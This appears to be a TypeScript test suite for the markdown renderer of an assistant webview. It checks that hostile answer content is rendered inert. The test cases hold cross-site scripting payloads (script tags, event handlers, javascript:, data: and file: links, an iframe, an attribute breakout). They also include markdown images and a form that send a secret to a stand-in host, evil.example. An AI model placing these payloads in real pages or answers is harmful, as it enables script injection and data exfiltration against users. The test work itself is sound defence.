import assert from 'node:assert/strict';
import { coachView } from '../../webviews/coach/coach.page.ts';
import { FakeCoachHost, pastExchange } from './fake-coach-host.ts';
import { type OpenView, WebviewBench } from './webview-page.ts';

describe('Markdown of an answer', function () {
  this.timeout(120_000);
  let bench: WebviewBench;

  before(async () => {
    bench = await WebviewBench.start(coachView);
  });
  after(() => bench.stop());
  afterEach(() => bench.closePages());

  function show(markdown: string, links: Parameters<typeof pastExchange>[2] = []): Promise<OpenView> {
    const host = new FakeCoachHost([pastExchange(1, markdown, links)]);
    return bench.open({ host: host.answer, width: 380, height: 900 });
  }

  for (const [name, markdown] of Object.entries({
    'a script': '<script>alert(1)</script>',
    'an event handler': '<img src=x onerror=alert(1)>',
    'an image, which would tell its server': '![x](https://evil.example/?q=secret)',
    'a reference image': '![x][y]\n\n[y]: https://evil.example/x.png',
    'a script link': '[x](javascript:alert(1))',
    'an encoded script link':
      '[x](&#106;avascript:alert(1)) [y](java&#x09;script:alert(1)) <javascript:alert(1)>',
    'a data link': '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    'a command link': '[x](command:workbench.action.terminal.new) [y](vscode://x/y) [z](file:///etc/passwd)',
    'a record that was never linked': '[x](vireo:7) [y](vireo:-1) [z](vireo:0/../1)',
    'svg and math': '<svg onload=alert(1)><math><mi xlink:href="javascript:alert(1)">',
    'a style and a form':
      '<style>*{display:none}</style><form action=https://evil.example><input name=x></form>',
    'a frame': '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    'an id and a class of ours': '<p id="spoken" class="sr" data-record="0">x</p>',
    'a link title with a handler': '[x](https://example.org "\\" onmouseover=alert(1) x=\\"")',
  })) {
    it(`makes ${name} in an answer inert`, async () => {
      const view = await show(`${markdown}\n\nend of answer`);
      await view.page.getByText('end of answer').waitFor();

      const found = await view.page.locator('vireo-exchange .text').evaluate((text) => ({
        elements: [...text.querySelectorAll('*')]
          .map(({ localName }) => localName)
          .filter((tag) => !['p', 'a'].includes(tag)),
        attributes: [...text.querySelectorAll('*')]
          .flatMap((element) => element.getAttributeNames())
          .filter((attribute) => !['href', 'title', 'rel'].includes(attribute)),
        addresses: [...text.querySelectorAll('a')]
          .map((anchor) => anchor.getAttribute('href'))
          .filter((href) => !href?.startsWith('https://')),
      }));

      assert.deepEqual(found, { elements: [], attributes: [], addresses: [] });
      assert.deepEqual(view.failures, []);
    });
  }

  it('shows a web link with its address', async () => {
    const view = await show('[the docs](https://example.org/a)');

    const link = view.page.getByRole('link', { name: 'the docs' });

    assert.equal(await link.getAttribute('title'), 'https://example.org/a');
    assert.equal(await link.getAttribute('rel'), 'noopener noreferrer');
  });

  it('renders lists, code and tables with figures to the right', async () => {
    const markdown =
      '# Last week\n\n- one `code`\n\n```ts\nlet a = 1;\n```\n\n| Project | Hours |\n|:--|--:|\n| API | [4:15](vireo:0) |';
    const view = await show(markdown, [{ kind: 'entries', ids: ['e1'] }]);

    const cell = view.page.getByRole('cell', { name: '4:15' });

    assert.equal(await cell.evaluate((element) => getComputedStyle(element).textAlign), 'right');
    assert.equal(await view.page.getByRole('heading', { name: 'Last week', level: 2 }).count(), 1);
    assert.deepEqual(view.failures, []);
  });
});
